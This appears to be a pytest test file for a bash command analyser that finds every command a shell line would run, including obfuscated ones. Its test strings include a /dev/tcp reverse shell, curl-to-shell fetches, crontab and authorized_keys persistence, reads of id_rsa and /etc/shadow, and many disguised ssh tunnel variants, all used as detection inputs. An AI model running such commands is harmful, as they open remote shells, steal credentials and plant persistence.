"""The shell analyser finds every simple command bash would run, wherever it sits."""

from __future__ import annotations

import pytest
from shell_support import analyze, argvs, commands, first

from corral.analysis.facts import Redirect


def test_plain_command() -> None:
    cmd = first("ls -la /tmp", "ls")
    assert cmd.argv == ["ls", "-la", "/tmp"]
    assert cmd.path == "ls"
    assert cmd.via == ()
    assert not cmd.background and not cmd.unresolved


def test_raw_line_and_argv_are_texts() -> None:
    result = analyze("a=ss; ${a}h  -R 80:h:22 u@e")
    assert result.texts[0] == "a=ss; ${a}h  -R 80:h:22 u@e"
    assert "ssh -R 80:h:22 u@e" in result.texts
    assert result.kind == "exec" and result.declared_kind == "exec"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("a && b || c; d", [["a"], ["b"], ["c"], ["d"]]),
        ("a | b |& c", [["a"], ["b"], ["c"]]),
        ("a && b && c && d && e && f", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]),
        ("(a; b) && { c; d; }", [["a"], ["b"], ["c"], ["d"]]),
        ("! a", [["a"]]),
        ("a\nb\n\nc # comment", [["a"], ["b"], ["c"]]),
    ],
)
def test_lists_pipelines_groups(line: str, expected: list[list[str]]) -> None:
    assert argvs(line) == expected


def test_long_and_chain_is_flat() -> None:
    line = " && ".join(f"c{i}" for i in range(500))
    assert [c.program for c in commands(line)] == [f"c{i}" for i in range(500)]


def test_background() -> None:
    result = commands("sleep 1 & ssh -N h; ls")
    assert [(c.program, c.background) for c in result] == [
        ("sleep", True),
        ("ssh", False),
        ("ls", False),
    ]
    assert all(c.background for c in commands("a && b | c &"))
    assert first("(nohup ssh -R 1:h:2 u@e &)", "ssh").background


def test_substitutions_run() -> None:
    assert argvs('echo $(whoami) `id -u` "$(hostname)"')[:3] == [
        ["whoami"],
        ["id", "-u"],
        ["hostname"],
    ]
    assert {c.program for c in commands("diff <(ls a) >(tee b) x")} == {"diff", "ls", "tee"}
    assert first("cat <(ls)", "cat").argv == ["cat", "/dev/fd/63"]


def test_nested_backticks() -> None:
    assert {c.program for c in commands("a=`echo \\`id\\``")} == {"echo", "id"}


def test_control_flow_bodies() -> None:
    line = (
        "if [ -f x ]; then a; elif b; then c; else d; fi; "
        "while read l; do e $l; done < f; until g; do h; done; "
        "case $x in y) i;; *) j;; esac; for k in 1; do m; done; "
        "for ((n=0; n<3; n++)); do o; done; [[ $(p) == q ]]; f() { r; }; function g { s; }"
    )
    programs = {c.program for c in commands(line)}
    assert programs >= set("abcdeghijmoprs")


def test_for_loop_binds_values() -> None:
    assert [c.argv for c in commands("for c in ssh scp; do $c -R 1:h:2 u@e; done")] == [
        ["ssh", "-R", "1:h:2", "u@e"],
        ["scp", "-R", "1:h:2", "u@e"],
    ]
    many = commands("for i in 1 2 3 4 5 6; do $i; done")
    assert [c.argv for c in many] == [["$i"]] and many[0].unresolved


def test_redirects() -> None:
    cmd = first("ls 2>/dev/null >> out.txt <in &>all 3>&-", "ls")
    assert cmd.redirects == [
        Redirect(">", "/dev/null", 2),
        Redirect(">>", "out.txt", None),
        Redirect("<", "in", None),
        Redirect("&>", "all", None),
        Redirect(">&-", "", 3),
    ]


def test_words_after_a_redirect_are_arguments() -> None:
    assert first("ssh 2>/dev/null -R 80:h:22 u@e", "ssh").argv == ["ssh", "-R", "80:h:22", "u@e"]


def test_redirect_after_list_goes_to_last_command() -> None:
    result = commands("a && echo x | base64 -d > /tmp/x 2>&1")
    by = {c.program: c for c in result}
    assert by["a"].redirects == [] and by["echo"].redirects == []
    assert [r.target for r in by["base64"].redirects] == ["/tmp/x", "1"]


def test_group_redirect_applies_inside() -> None:
    result = commands("{ a; b; } > log")
    assert all(c.redirects == [Redirect(">", "log", None)] for c in result)


def test_readwrite_redirect() -> None:
    result = analyze("exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l; done")
    assert result.problems == []
    exec_cmd = next(c for c in result.commands if c.program == "exec")
    assert exec_cmd.redirects == [Redirect("<>", "/dev/tcp/10.0.0.1/4444", 5)]


def test_reverse_shell_redirects() -> None:
    cmd = first("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash")
    assert cmd.redirects == [Redirect(">&", "/dev/tcp/10.0.0.1/4444", None), Redirect(">&", "1", 0)]


def test_env_prefix() -> None:
    cmd = first("LD_PRELOAD=/tmp/x.so HOME=/ ls", "ls")
    assert cmd.env == {"LD_PRELOAD": "/tmp/x.so", "HOME": "/"}
    assert cmd.argv == ["ls"]


def test_declarations_are_commands_and_assign() -> None:
    result = commands("export A=ssh B; declare -x C=$(id); local d=2; unset e")
    assert [c.argv for c in result] == [
        ["export", "A=ssh", "B"],
        ["id"],
        ["declare", "-x", "C=$(id)"],
        ["local", "d=2"],
        ["unset", "e"],
    ]
    assert first("export A=ss; ${A}h -R 1:h:2 u@e", "ssh").argv[1] == "-R"


# ---- quoting, variables, names --------------------------------------------------------------


def test_variable_assigned_earlier() -> None:
    cmd = first("a=ss; ${a}h -R 80:h:22 u@e", "ssh")
    assert cmd.argv == ["ssh", "-R", "80:h:22", "u@e"] and not cmd.unresolved


@pytest.mark.parametrize(
    "line",
    [
        "s''sh -R 1:h:2 u@e",
        '"s"sh -R 1:h:2 u@e',
        "\\s\\s\\h -R 1:h:2 u@e",
        "$'\\x73sh' -R 1:h:2 u@e",
        "$'\\163\\163\\150' -R 1:h:2 u@e",
        "$'\\u0073sh' -R 1:h:2 u@e",
        '$"ssh" -R 1:h:2 u@e',
        "/usr/bin/ssh -R 1:h:2 u@e",
        "x=$(printf ssh); $x -R 1:h:2 u@e",
        "x=`echo ssh`; $x -R 1:h:2 u@e",
        "a=s b=h; $a$a$b -R 1:h:2 u@e",
        "a=sXsh; ${a/X/} -R 1:h:2 u@e",
        "a=SSH; ${a,,} -R 1:h:2 u@e",
        "a=xxssh; ${a#xx} -R 1:h:2 u@e",
        "a=sshd; ${a%d} -R 1:h:2 u@e",
        "a=xsshy; ${a:1:3} -R 1:h:2 u@e",
        "${UNSET_VARIABLE:-ssh} -R 1:h:2 u@e",
        "a=b; b=ssh; ${!a} -R 1:h:2 u@e",
        "c='ssh -R 1:h:2 u@e'; $c",
        'a=(ssh -R 1:h:2 u@e); "${a[@]}"',
        "{ssh,-R,1:h:2,u@e}",
        "s\\\nsh -R 1:h:2 u@e",
        "read a b <<< 'ssh -R'; $a $b 1:h:2 u@e",
        "printf -v c '\\x73\\x73\\x68'; $c -R 1:h:2 u@e",
        "a='\\x73sh'; ${a@E} -R 1:h:2 u@e",
        "ssh${IFS}-R${IFS}1:h:2${IFS}u@e",
        "IFS=,; c=ssh,-R,1:h:2,u@e; $c",
        "$(which ssh) -R 1:h:2 u@e",
        "`command -v ssh` -R 1:h:2 u@e",
    ],
)
def test_quoting_tricks_and_variables(line: str) -> None:
    cmd = first(line, "ssh")
    assert cmd.argv[1:] == ["-R", "1:h:2", "u@e"]
    assert not cmd.unresolved


def test_absolute_and_relative_program_paths() -> None:
    cmd = first("/usr/bin/ssh -V", "ssh")
    assert cmd.path == "/usr/bin/ssh"
    assert first("./xmrig --donate-level 1", "xmrig").path == "./xmrig"


def test_unresolved_expansions() -> None:
    cmd = commands("$CMD -R 1:h:2 u@e")[0]
    assert cmd.program == "$CMD" and cmd.unresolved
    assert commands("${a}h -x")[0].program == "${a}h"
    assert commands("$(curl -s http://x/name) arg")[-1].unresolved
    assert commands("ls $SOMETHING")[0].unresolved
    assert commands("/???/?i?/n? -e /bin/sh h 1")[0].unresolved  # a glob for a program name
    fetched = commands('bash -c "$(curl -fsSL https://x.example/a/install.sh)"')[-1]
    assert fetched.program == "$(curl -fsSL https://x.example/a/install.sh)"
    assert fetched.unresolved and fetched.via == ("bash -c",)


def test_well_known_variables_are_not_unresolved() -> None:
    cmd = commands("cat $HOME/.bashrc ${HOME}/x $PWD")[0]
    assert cmd.argv == ["cat", "$HOME/.bashrc", "${HOME}/x", "$PWD"]
    assert not cmd.unresolved


def test_field_splitting_and_quotes() -> None:
    assert commands('a="x  y"; echo $a "$a" \'$a\'')[0].argv == ["echo", "x", "y", "x  y", "$a"]
    assert commands('echo "" a""b')[0].argv == ["echo", "", "ab"]
    assert commands('echo "a \\" b \\$c"')[0].argv == ["echo", 'a " b $c']


def test_brace_expansion() -> None:
    assert commands("echo a{b,c}d {1..3} '{x,y}'")[0].argv == [
        "echo",
        "abd",
        "acd",
        "1",
        "2",
        "3",
        "{x,y}",
    ]
    huge = commands("echo {1..100000}")[0]
    assert huge.argv == ["echo", "{1..100000}"]


def test_subshell_variables_do_not_leak() -> None:
    cmd = commands("(a=ssh); $a -R 1:h:2 u@e")[0]
    assert cmd.program == "$a" and cmd.unresolved


def test_child_shell_sees_exported_variables_only() -> None:
    assert first("export a=ssh; bash -c '$a -R 1:h:2 u@e'", "ssh").argv[1] == "-R"
    assert commands("a=ssh; bash -c '$a -R 1:h:2 u@e'")[-1].program == "$a"
    assert first("a=ssh bash -c '$a -R 1:h:2 u@e'", "ssh").argv[1] == "-R"


def test_positional_parameters_of_bash_c() -> None:
    cmd = first("bash -c '$0 -R $1 u@e' ssh 1:h:2", "ssh")
    assert cmd.argv == ["ssh", "-R", "1:h:2", "u@e"]
    assert first("sh -c '\"$@\"' _ ssh -R 1:h:2 u@e", "ssh").argv[1] == "-R"


def test_cd_changes_relative_paths() -> None:
    result = analyze("cd ~/.ssh && cat id_rsa; (cd /etc; cat shadow); cat x; cd $D; cat y", "/w")
    reads = [f.path for f in result.files if f.op == "read"]
    assert reads == ["~/.ssh/id_rsa", "/etc/shadow", "~/.ssh/x", "y"]


def test_written_content_is_known() -> None:
    line = (
        "cat >> ~/.bashrc <<EOF\nalias sudo='x'\nEOF\n"
        "echo '* * * * * curl x | sh' | tee -a /etc/crontab; "
        "printf '%s\\n' key > ~/.ssh/authorized_keys; "
        "echo aGk= | base64 -d > /tmp/x"
    )
    result = analyze(line, "/w")
    assert [(f.path, f.op, f.content) for f in result.files] == [
        ("~/.bashrc", "append", "alias sudo='x'\n"),
        ("/etc/crontab", "append", "* * * * * curl x | sh\n"),
        ("~/.ssh/authorized_keys", "write", "key\n"),
        ("/tmp/x", "write", "hi"),
    ]
